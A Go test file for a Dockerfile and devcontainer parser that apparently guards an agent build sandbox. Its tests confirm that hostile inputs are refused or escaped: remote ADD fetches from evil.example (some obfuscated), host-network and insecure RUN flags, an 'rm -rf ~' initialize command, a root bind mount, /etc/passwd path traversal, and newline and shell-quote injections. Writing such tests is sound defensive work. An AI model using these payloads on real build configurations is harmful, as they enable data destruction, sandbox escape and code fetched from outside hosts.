package image_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"agentprocess/internal/image"
)

func TestDockerfileIsSentAsItWasUnderstood(t *testing.T) {
	tests := []struct {
		name, text, want string
		bases            []string
		context          bool
	}{
		{"comments and continuations", "# c\nFROM a:1\n\nRUN x \\\n # inside\n\n  && y\n", "FROM a:1\nRUN x   && y\n", []string{"a:1"}, false},
		{"another escape", "# escape=`\nFROM a\nRUN dir C:\\ `\n /b\n", "FROM a\nRUN dir C:\\  /b\n", []string{"a"}, false},
		{"variables of FROM", "ARG V=2\nARG R=reg.example/x\nFROM ${R}:${V} AS One\nFROM one\nFROM ${NONE:-b}\n", "ARG V=2\nARG R=reg.example/x\nFROM reg.example/x:2 AS One\nFROM one\nFROM b\n", []string{"reg.example/x:2", "b"}, false},
		{"given from outside", "ARG V=1\nFROM a:$V\n", "ARG V=1\nFROM a:given\n", []string{"a:given"}, false},
		{"platform of this machine", "FROM --platform=$BUILDPLATFORM a\n", "FROM a\n", []string{"a"}, false},
		{
			"copies from stages and images", "FROM scratch AS s\nCOPY --from=s /x /x\nCOPY --from=0 /x /x\nCOPY --from=tool:1 --chown=1:1 /x /x\n",
			"FROM scratch AS s\nCOPY --from=s /x /x\nCOPY --from=0 /x /x\nCOPY --from=tool:1 --chown=1:1 /x /x\n",
			[]string{"tool:1"},
			false,
		},
		{"copies from the tree", "from a\r\ncopy x /x\r\n", "FROM a\nCOPY x /x\n", []string{"a"}, true},
		{"a shift is no here-document", "FROM a\nRUN echo $((1 << 2)) <<< x\n", "FROM a\nRUN echo $((1 << 2)) <<< x\n", []string{"a"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := map[string]string{}
			if strings.Contains(tt.name, "given") {
				args["V"] = "given"
			}
			d, err := image.ParseDockerfile([]byte(tt.text), args)
			if err != nil {
				t.Fatal(err)
			}
			got := string(d.Render(nil))
			_, got, _ = strings.Cut(got, "\n") // the escape
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
			if diff := cmp.Diff(tt.bases, d.Bases()); diff != "" {
				t.Error(diff)
			}
			if d.UsesContext() != tt.context {
				t.Errorf("uses the context: %t", d.UsesContext())
			}
			if again, err := image.ParseDockerfile(d.Render(nil), args); err != nil || string(again.Render(nil)) != string(d.Render(nil)) {
				t.Errorf("it reads otherwise when it is read again: %v", err)
			}
		})
	}
}

// What an engine would fetch itself, past the gateway, and what two builders
// read in two ways.
func TestDockerfileAttacks(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"FROM a\nADD https://evil.example/x /x", "line 2: ADD of an URL"},
		{"FROM a\nADD git@evil.example:x /x", "ADD of an URL"},
		{"FROM a\nARG U=https://evil.example\nADD $U /x", "ADD of an URL"},
		{"FROM a\nADD http\\://evil.example/x /x", "ADD of an URL"},
		{"FROM a\nADD ht\\\ntps://evil.example/x /x", "ADD of an URL"},
		{"FROM a\nONBUILD ADD https://evil.example/x /x", "ADD of an URL"},
		{"FROM a\nONBUILD ONBUILD RUN x", "ONBUILD ONBUILD"},
		{"FROM a\nRUN --network=host x", "--network=host"},
		{"FROM a\nRUN --mount=type=bind,from=evil,target=/x x", "--mount"},
		{"FROM a\nRUN --security=insecure x", "--security"},
		{"FROM a\nONBUILD RUN --network=host x", "--network"},
		{"FROM a\nRUN <<EOF\nADD https://evil.example/x /x\nEOF", "here-document"},
		{"FROM a\nCOPY <<-'EOF' /x\nEOF", "here-document"},
		{"FROM a\nCOPY --from=$X /a /b", "no name of an image"},
		{"FROM a\nCOPY --from=-x /a /b", "no name of an image"},
		{"FROM a\nCOPY --link /a /b", "another builder"},
		{"FROM a\nRUN x \\\\", "it ends with"},
		{"FROM --platform=linux/s390x a", "FROM"},
		{"FROM $NOTHING", "NOTHING"},
		{"FROM -v", "no name of an image"},
		{"RUN x", "before the first FROM"},
		{"FROM a\nRUN x\x00", "control character"},
		{"FROM a\nRUN x\rADD https://evil.example /x", "control character"},
		{"FROM a\nNETWORK host", "unknown instruction"},
		{"# escape=x\nFROM a", "escape"},
		{"# only a comment", "no FROM"},
		{"FROM a\nENV", "says nothing"},
	} {
		_, err := image.ParseDockerfile([]byte(tt.text), nil)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("ParseDockerfile(%q) = %v, want %q", tt.text, err, tt.want)
		}
	}
}

func container(text string, more ...image.File) (image.Recipe, error) {
	return image.Find(append([]image.File{{Path: ".devcontainer/devcontainer.json", Mode: 0o100644, Data: []byte(text)}}, more...))
}

func TestDevcontainer(t *testing.T) {
	r, err := container(`// as editors write it
	{
		"image": "debian:12", /* inline */
		"containerEnv": {"B": "${localEnv:SECRET}", "A": "x", "W": "${containerWorkspaceFolder}/x"},
		"remoteEnv": {"C": "y"},
		"remoteUser": "vscode",
		"onCreateCommand": "cd ${containerWorkspaceFolder} && make",
		"postCreateCommand": {"two": ["npm", "ci"], "one": "true"},
		"postStartCommand": "x",
		"initializeCommand": "rm -rf ~",
		"mounts": [{"type": "volume", "source": "v", "target": "/cache"}, "type=volume,target=/usr/x", "type=tmpfs,dst=/scratch", "type=bind,src=/,target=/host", "type=volume,target=${containerWorkspaceFolder}/n"],
		"privileged": true, "capAdd": ["SYS_ADMIN"], "madeUp": 1, "customizations": {},
	}`)
	if err != nil {
		t.Fatal(err)
	}
	want := image.Recipe{
		Source: ".devcontainer/devcontainer.json", Image: "debian:12", Env: []string{"A=x", "B=", "C=y"}, User: "vscode", Volumes: []string{"/cache", "/scratch"},
		Commands: []image.Command{{"/bin/sh", "-c", "cd . && make"}, {"/bin/sh", "-c", "true"}, {"npm", "ci"}},
	}
	notices := r.Notices
	r.Notices = nil
	if diff := cmp.Diff(want, r); diff != "" {
		t.Error(diff)
	}
	all := strings.Join(notices, "\n")
	for _, text := range []string{
		"SECRET", "W: ${containerWorkspaceFolder} is not known", "postStartCommand is left out", "initializeCommand is left out: it would run on your machine",
		"/usr/x is left out: that is the system's own", "mount at /host is left out: / of this machine", "mount at ${containerWorkspaceFolder}/n is left out",
		"privileged is left out", "capAdd is left out", "madeUp is left out",
	} {
		if !strings.Contains(all, text) {
			t.Errorf("notices lack %q:\n%s", text, all)
		}
	}
}

func TestDevcontainerRefuses(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{`{}`, "neither an image nor a Dockerfile"},
		{`{"image": "x y"}`, "no name of an image"},
		{`{"image": "a\nRUN evil"}`, "no name of an image"},
		{`{"dockerComposeFile": "c.yml"}`, "dockerComposeFile"},
		{`{"build": {"dockerfile": "../../../etc/passwd"}}`, "out of the tree"},
		{`{"build": {"dockerfile": "/etc/passwd"}}`, "out of the tree"},
		{`{"build": {"dockerfile": "Dockerfile"}}`, "not in the commit"},
		{`{"image": "a", "features": {"ghcr.io/devcontainers/features/node:1": {}}}`, "features of registries are not fetched"},
		{`{"image": "a", "features": {"./../../x": {}}}`, "is not below"},
		{`{"image": "a", "features": {"./x": {}}}`, "install.sh"},
		{`{"image": "a", "containerEnv": {"A": "x\nRUN evil"}}`, "cannot be a variable"},
		{`{"image": "a", "containerEnv": {"A B": "x"}}`, "cannot be a variable"},
		{`{"image": "a", "postCreateCommand": 1}`, "postCreateCommand"},
		{`{"image": "a"`, "hujson"},
	} {
		_, err := container(tt.text)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", tt.text, err, tt.want)
		}
	}
}

func TestFeatureOptionsAreWordsOfAShell(t *testing.T) {
	r, err := container(`{"image": "a", "features": {"./f": {"say-it": "'; touch /evil; '", "n": 2}}}`,
		image.File{Path: ".devcontainer/f/install.sh", Mode: 0o100644, Data: []byte("x")},
		image.File{Path: ".devcontainer/f/devcontainer-feature.json", Mode: 0o100644, Data: []byte(`{"options": {"mode": {"default": "fast"}}, "containerEnv": {"F": "$x"}}`)})
	if err != nil {
		t.Fatal(err)
	}
	last, err := r.Last(image.End{Base: "a"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`MODE='fast' N='2' SAY_IT=''"'"'; touch /evil; '"'"'' `, "ENV F=\"\\$x\"\n"} {
		if !strings.Contains(string(last), want) {
			t.Errorf("%q is not in %s", want, last)
		}
	}
}

// The key changes with whatever goes into an image, and with nothing else.
func TestKey(t *testing.T) {
	read := func(text string) image.Recipe {
		r, err := container(text)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	r := read(`{"image": "a"}`)
	key := r.Key([]string{"id"}, "tree")
	if again := read(`{"image": "a", "name": "x"}`).Key([]string{"id"}, "another tree"); again != key {
		t.Error("a name, or a tree from which nothing is copied, made another image")
	}
	for _, other := range []string{
		read(`{"image": "a"}`).Key([]string{"other"}, "tree"),
		read(`{"image": "a", "remoteUser": "u"}`).Key([]string{"id"}, "tree"),
		read(`{"image": "a", "postCreateCommand": "x"}`).Key([]string{"id"}, "tree"),
		read(`{"image": "a", "containerEnv": {"A": "b"}}`).Key([]string{"id"}, "tree"),
		read(`{"image": "a", "mounts": ["type=volume,target=/c"]}`).Key([]string{"id"}, "tree"),
	} {
		if other == key {
			t.Error("what differs has the same key")
		}
	}
}

func TestDefault(t *testing.T) {
	r, err := image.Find(nil)
	if err != nil || r.Source != image.DefaultSource || len(r.Bases()) != 1 || r.UsesContext() {
		t.Errorf("%+v, %v", r, err)
	}
}

func FuzzDockerfile(f *testing.F) {
	for _, s := range []string{"FROM a\nRUN x \\\n y", "# escape=`\nARG A=b\nFROM ${A:-c} AS d\nCOPY --from=d x y", "FROM a\nONBUILD ADD x y\nRUN <<E\nE"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		d, err := image.ParseDockerfile(data, nil)
		if err != nil {
			return
		}
		text := d.Render(nil)
		again, err := image.ParseDockerfile(text, nil)
		if err != nil || string(again.Render(nil)) != string(text) || !cmp.Equal(again.Bases(), d.Bases()) {
			t.Errorf("%q is read otherwise again: %v", text, err)
		}
	})
}

func FuzzDevcontainer(f *testing.F) {
	for _, s := range []string{`{"image": "a", "containerEnv": {"A": "b\\"}}`, `{"build": {"dockerfile": "D"}, "mounts": ["type=volume,target=/c"]} // x`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := container(string(data))
		if err != nil {
			return
		}
		if _, err := r.Last(image.End{Base: "base"}); err != nil {
			t.Error(err)
		}
		// Nothing of it may become an instruction of its own.
		if r.Dockerfile == nil && r.Steps() != 2+min(1, len(r.Env))+min(1, len(r.Volumes)) {
			t.Errorf("%d steps of %+v", r.Steps(), r)
		}
	})
}
